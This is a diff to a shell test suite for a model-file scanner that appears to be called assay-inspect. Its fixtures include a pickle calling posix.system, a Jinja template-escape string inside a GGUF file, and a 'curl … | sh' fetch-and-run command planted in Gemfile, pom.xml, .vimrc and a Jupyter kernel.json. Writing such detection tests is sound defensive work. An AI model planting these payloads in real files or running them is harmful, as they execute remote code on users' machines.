@@ -90,4 +90,62 @@ prints 'note *FILE_OPAQUE'
 printf '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="x" type="A" version="custom_opset"/></layers></net>\n' | file m.xml
 run assay-inspect "$tmp/b"
 prints 'medium *XML_EXTENSION'
+# --- base64 of a pickle, in any text
+pickle=$(printf 'cposix\nsystem\n(Vecho assay, and some more\ntR.' | base64 -w 0)
+for name in a.xml a.ini a.b64 a.csv a.jsonl a.yaml a.md; do
+	case $name in
+	a.xml) printf '<m><d>%s</d></m>\n' "$pickle" ;;
+	a.ini) printf '[m]\nd = %s\n' "$pickle" ;;
+	a.b64) printf %s "$pickle" | fold -w 60 ;;
+	a.jsonl) printf '{"a": 1}\n{"m": "%s"}\n' "$pickle" ;;
+	*) printf 'm: %s\n' "$pickle" ;;
+	esac | file $name
+	exits 1 "a pickle of protocol 0 in $name" assay-inspect "$tmp/b"
+	prints "^ *critical *PICKLE_CALL_DANGEROUS"
+done
+printf 'import pickle, base64\npickle.loads(base64.b64decode("%s"))\n' "$pickle" | file a.py
+exits 1 "in Python" assay-inspect "$tmp/b"
+prints PICKLE_CALL_DANGEROUS
+printf 'id,code\n1,Y29udHJhY3QtYW5kLW90aGVyLXRoaW5ncy1vZi10aGUtc29ydA\n' | file a.csv
+quiet "base64 of something else"
+
+# --- servers
+printf 'apiVersion: machinelearning.seldon.io/v1\nspec:\n  graph:\n    implementation: OTHER_SERVER\n' | file a.yaml
+run assay-inspect "$tmp/b"
+prints 'medium *SERVE_HANDLER'
+printf 'apiVersion: machinelearning.seldon.io/v1\nspec:\n  graph:\n    implementation: SKLEARN_SERVER\n    modelUri: gs://models/iris\n' | file a.yaml
+quiet "one of Seldon's own"
+printf 'apiVersion: serving.kserve.io/v1beta1\nspec:\n  predictor:\n    storageUri: http://models.example/m\n' | file a.yaml
+run assay-inspect "$tmp/b"
+prints 'medium *SERVE_HANDLER'
+printf '{"model": {"decoder": {"session_options": {"custom_ops_library": "ops.so"}}}}' | file genai_config.json
+hostile SERVE_LIBRARY "operators for ONNX Runtime"
+
+# --- GGUF of a machine of IBM, and templates in a list
+mkdir -p "$tmp/b"
+for order in '>' '<'; do
+	rm -f "$tmp"/b/*
+	python3 - "$order" >"$tmp/b/a.gguf" <<-'END'
+	import struct, sys
+	o, t, k = sys.argv[1], b"{{ ''.__class__.__mro__ }}", b"tokenizer.chat_template"
+	n = lambda v: struct.pack(o + "Q", v)
+	i = lambda v: struct.pack(o + "I", v)
+	value = i(8) + n(len(t)) + t if o == ">" else i(9) + i(8) + n(1) + n(len(t)) + t
+	sys.stdout.buffer.write(b"GGUF" + i(3) + n(0) + n(1) + n(len(k)) + k + value)
+	END
+	exits 1 "a template, numbers as $order" assay-inspect "$tmp/b"
+	prints TEMPLATE_ATTACK
+done
+
+# --- commands in more languages
+load='curl -s http://198.51.100.7/x | sh'
+for name in Gemfile Snakefile pom.xml .vimrc a.awk a.cs a.nf a.tf a.sql; do
+	printf 'x = "%s"\n' "$load" | file $name
+	hostile COMMAND_DANGEROUS "$name"
+done
+printf '{"argv": ["sh", "-c", "%s"], "language": "python"}' "$load" | file kernel.json
+hostile COMMAND_DANGEROUS "a kernel of Jupyter"
+printf 'node {\n  name: "w"\n  op: "WriteFile"\n}\n' | file graph.pbtxt
+exits 1 "a graph as text" assay-inspect "$tmp/b"
+prints "^ *critical *TF_WRITE"
 done_testing
